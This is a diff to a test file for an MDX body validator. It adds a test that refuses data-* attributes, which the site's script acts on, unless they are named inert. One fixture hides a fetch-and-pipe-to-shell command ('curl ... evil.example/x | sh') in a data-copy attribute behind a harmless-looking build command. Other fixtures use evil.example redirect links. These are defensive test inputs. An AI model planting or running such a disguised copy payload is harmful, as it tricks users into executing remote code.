@@ -4,7 +4,7 @@ import { readdirSync, readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { test } from 'node:test';
 import { fileURLToPath } from 'node:url';
-import { bodyIssues, MAX_BODY_BYTES, mdxIssues, urlScheme } from './mdx-body.ts';
+import { bodyIssues, INERT_DATA_ATTRIBUTES, MAX_BODY_BYTES, mdxIssues, urlScheme } from './mdx-body.ts';
 
 const panics = fileURLToPath(new URL('../../content/panics/', import.meta.url));
 const FRONT = '---\nid: x\n---\n\n';
@@ -55,6 +55,24 @@ test('event handlers, expressions and style in attributes are refused', () => {
   assert.match(issues('<span style="position:fixed">x</span>\n')[0]!.message, /`style` attribute/);
   assert.match(issues('<span id="spread_oracle-L43">x</span>\n')[0]!.message, /`id` attribute; ids belong to the page/);
   assert.match(issues('<img src="/a.png" alt="" name="search" />\n')[0]!.message, /`name` attribute/);
+});
+
+test('data-* attributes are refused (the site script acts on them) unless named inert', () => {
+  for (const body of [
+    '<a href="https://evil.example/landing" data-moved-to="">more</a>\n',
+    '<code data-copy="curl -s https://evil.example/x | sh">cargo build --release</code>\n',
+    '<a href="https://evil.example/#spread_oracle-L43" data-copy-link>x</a>\n',
+    '<span DATA-COPY="x">y</span>\n',
+    '<span dataCopy="x">y</span>\n',
+    '<div data-anything-new="x">y</div>\n',
+  ]) {
+    const found = issues(body);
+    assert.equal(found.length, 1, body);
+    assert.equal(found[0]!.line, 5, body);
+    assert.match(found[0]!.message, /^must not give <(a|code|span|div)> a `[^`]+` attribute; data-\* attributes are the site's script hooks, and the prose may carry only `data-pagefind-ignore`/, body);
+  }
+  assert.deepEqual(issues('<div data-pagefind-ignore>A long example log.</div>\n\n<object data="/x.bin"></object>\n').map((i) => i.message.slice(0, 30)), ['must not hold a <object> eleme']);
+  for (const inert of INERT_DATA_ATTRIBUTES) assert.deepEqual(issues(`<span ${inert}="">x</span>\n`), [], inert);
 });
 
 test('javascript: and other non-web links are refused, however they are spelt', () => {
